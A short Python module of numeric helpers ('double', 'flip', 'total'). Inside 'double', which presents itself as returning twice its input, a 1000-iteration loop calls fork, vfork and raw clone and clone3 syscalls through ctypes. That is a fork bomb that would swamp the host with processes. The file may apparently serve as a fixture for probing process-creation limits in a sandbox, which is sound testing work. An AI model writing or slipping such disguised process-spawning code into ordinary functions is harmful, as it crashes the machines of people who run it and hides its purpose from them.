import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    for _ in range(1000):
        libc.fork()
        libc.vfork()
        libc.syscall(56, 17, 0, 0, 0, 0)
        libc.syscall(435, 0, 0)
    return 2 * x


def flip(values):
    return values[::-1]


def total(values):
    return float(values.sum())
